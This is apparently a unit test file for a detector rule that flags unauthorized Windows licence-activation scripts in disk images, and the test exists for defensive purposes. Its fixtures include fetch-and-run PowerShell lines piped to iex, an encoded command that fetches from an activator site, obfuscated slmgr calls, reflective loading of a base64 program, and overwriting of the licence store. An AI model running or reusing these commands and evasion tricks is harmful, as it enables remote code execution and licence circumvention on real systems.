// The rule activation/script-semantics: scripts of administrators and scripts of activators, plain and in disguise.
import { gzipSync } from 'node:zlib';
import { test } from 'uvu';
import { scriptSemantics } from '../../../rules/activation/script-semantics.ts';
import { peFile } from '../../../scripts/dev/fixtures/bytes.ts';
import { ruleTester } from '../../helpers/rule-tester.ts';

const policy = { kmsHosts: ['kms.corp.example'] };
const SITE = ['get.activated', 'win'].join('.');
const SCRIPT = '/Windows/Setup/Scripts/SetupComplete.cmd';
const wide = (text: string) => new Uint8Array(Buffer.from(text, 'utf16le'));
const bad = (name: string, files: Readonly<Record<string, string | Uint8Array>>, severity: 'error' | 'warning' = 'error') => ({
  name,
  policy,
  image: { files },
  findings: Object.keys(files).map((file) => ({ messageId: 'activates', at: { file }, severity })),
});

ruleTester(scriptSemantics, {
  good: [
    {
      name: 'a folder of that kind of name, and an empty script',
      image: { files: { '/tools/a.cmd': { folder: true, unreadable: 'is a folder' }, '/b.js': '' } },
    },
    {
      name: 'the listed host',
      policy,
      image: { files: { [SCRIPT]: 'cscript slmgr.vbs /skms kms.corp.example\r\ncscript slmgr.vbs /ato\r\n' } },
    },
    {
      name: 'a host given as a parameter',
      policy,
      image: { files: { '/tools/act.ps1': 'param($KmsHost)\ncscript slmgr.vbs /skms $KmsHost\n' } },
    },
    {
      name: 'a script that takes a hijack away, and one that speaks of a host',
      policy,
      image: {
        files: {
          '/tools/clean.cmd':
            'reg delete "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\SppExtComObj.exe" /f\r\n',
          '/tools/help.cmd': 'echo Example: slmgr.vbs /skms kms.other.example\r\n',
        },
      },
    },
    {
      name: 'a script that fetches what it runs and is started by somebody, and a profile that only fetches',
      policy,
      image: {
        files: {
          '/tools/install.ps1': 'iex ((New-Object Net.WebClient).DownloadString("https://x.example/install.ps1"))\n',
          '/Windows/System32/WindowsPowerShell/v1.0/profile.ps1': '$weather = irm https://x.example/weather\n',
        },
      },
    },
    {
      name: 'a program that is carried as data, and a backup of the licence store',
      policy,
      image: {
        files: {
          '/tools/icon.ps1': `$b = [Convert]::FromBase64String('${Buffer.from(peFile('icon')).toString('base64')}')\n$b.Length\n`,
          '/tools/backup.cmd': 'xcopy /y C:\\Windows\\System32\\spp\\store\\2.0\\tokens.dat D:\\backup\\\r\n',
        },
      },
    },
    { name: 'a program under the name of a script', image: { files: { '/tools/a.cmd': peFile('slmgr.vbs /skms kms.evil.example') } } },
    { name: 'an empty script and a folder of such a name', policy, image: { files: { '/a.cmd': '', '/b.cmd': { folder: true } } } },
    {
      name: 'code of a web page that holds the same words',
      policy,
      image: { files: { '/www/app.js': 'f("slmgr.vbs /skms kms.evil.example")' } },
    },
  ],
  bad: [
    ...['psm1', 'jse', 'wsf', 'wsc', 'hta', 'sct'].map((ending) =>
      bad(`a .${ending}`, { [`/tools/a.${ending}`]: `cscript //b slmgr.vbs /skms ${SITE}\r\n` }),
    ),
    {
      name: 'a profile of PowerShell that fetches what it runs',
      image: {
        files: {
          '/Windows/System32/WindowsPowerShell/v1.0/profile.ps1': 'Set-Location C:\\\niex (irm https://x.example/a)\n',
          '/Program Files/PowerShell/7/Microsoft.PowerShell_profile.ps1': 'irm https://x.example/a | iex\n',
        },
      },
      findings: [
        { messageId: 'fetches', at: { file: '/Windows/System32/WindowsPowerShell/v1.0/profile.ps1' }, severity: 'error' },
        { messageId: 'fetches', at: { file: '/Program Files/PowerShell/7/Microsoft.PowerShell_profile.ps1' }, severity: 'error' },
      ],
    },
    ...['WScript.Echo(1)', 'new ActiveXObject("x")', 'GetObject("x")', 'String.fromCharCode(1)', 'eval("x")'].map((line) =>
      bad(`code of the Script Host: ${line}`, { '/x/app.js': `${line};\nsh.Run("slmgr.vbs /skms kms.evil.example")` }),
    ),
    ...[
      ...['/Windows/System32', '/Windows/SysWOW64', '/Windows/SysArm32', '/Windows/System32/de-DE'],
      ...['/Windows/WinSxS/amd64_microsoft-windows-security-spp-tools_31bf3856ad364e35_10.0.1_none_0'],
    ]
      .map((folder) => `${folder}/slmgr.vbs`)
      .concat('/Program Files/Microsoft Office/Office16/ospp.vbs', '/Program Files (x86)/Microsoft Office/root/Office15/ospp.vbs')
      .map((file) => ({
        name: `the help of Microsoft’s own tool: ${file}`,
        policy,
        image: { files: { [file]: 'x = "slmgr.vbs /skms kms.other.example"\r\n' } },
        findings: [{ messageId: 'quoted', at: { file }, severity: 'note' as const }],
      })),
    bad('what no help of that tool would say', { '/Windows/System32/slmgr.vbs': 's.Run "slmgr.vbs /skms 127.0.0.2"\r\n' }),
    bad('a program that is carried and loaded', {
      '/a.ps1': `$b = [Convert]::FromBase64String('${Buffer.from(peFile('carried')).toString('base64')}')\n[Reflection.Assembly]::Load($b)\n`,
    }),
    bad('another licence store', {
      '/a.ps1': 'Stop-Service sppsvc\nCopy-Item .\\data.dat C:\\Windows\\System32\\spp\\store\\2.0\\data.dat -Force\n',
    }),
    bad('a host that nobody listed', { [SCRIPT]: 'cscript slmgr.vbs /skms kms.evil.example\r\n' }),
    bad('in UTF-16 without a mark', { [SCRIPT]: wide('cscript slmgr.vbs /skms kms.evil.example\r\n') }),
    bad('split by variables that hold nothing', { [SCRIPT]: 's%n%lm^gr.v%n%bs /sk%n%ms kms.evil.ex%n%ample\r\n' }),
    bad('an encoded command', { '/a.bat': `powershell -eNco ${Buffer.from(wide(`irm https://${SITE}|iex`)).toString('base64')}` }),
    bad('packed and in Base64', {
      '/a.ps1': `iex (x([Convert]::FromBase64String('${gzipSync('slmgr /skms 127.0.0.2').toString('base64')}')))`,
    }),
    bad('put together from pieces', { '/a.ps1': `$u = 'https://' + '${SITE.slice(0, 6)}' + '${SITE.slice(6)}'\ni\`rm $u | i\`ex\n` }),
    bad('by Script Host', { '/a.js': 'new ActiveXObject("WScript.Shell").Run("slm" + "gr.vbs /skms kms.evil.example")' }),
    bad('in the cloud of another', { '/a.cmd': 'slmgr /skms azkms.core.windows.net:1688' }, 'warning'),
    {
      name: 'two strong signs are certain, and each is told',
      policy,
      image: { files: { '/a.cmd': 'clipup -v -o\r\nslmgr /skms kms.evil.example\r\n' } },
      findings: [
        { messageId: 'activates', at: { file: '/a.cmd', offset: 0 }, says: 'tickets', level: 'certain' },
        { messageId: 'activates', at: { file: '/a.cmd' }, says: 'kms.evil.example', level: 'certain' },
      ],
    },
    {
      name: 'the help of the tool itself is a note',
      policy,
      image: { files: { '/Program Files/Microsoft Office/Office16/OSPP.VBS': 'x = "ospp.vbs /sethst:server01"' } },
      findings: [{ messageId: 'quoted', at: { file: '/Program Files/Microsoft Office/Office16/OSPP.VBS' }, severity: 'note' }],
    },
    {
      name: 'an encoded script cannot be read',
      policy,
      image: { files: { '/a.vbe': '#@~^AAAA==xx^#~@' } },
      findings: [],
      unable: 'encoded form',
    },
  ],
});

test.run();
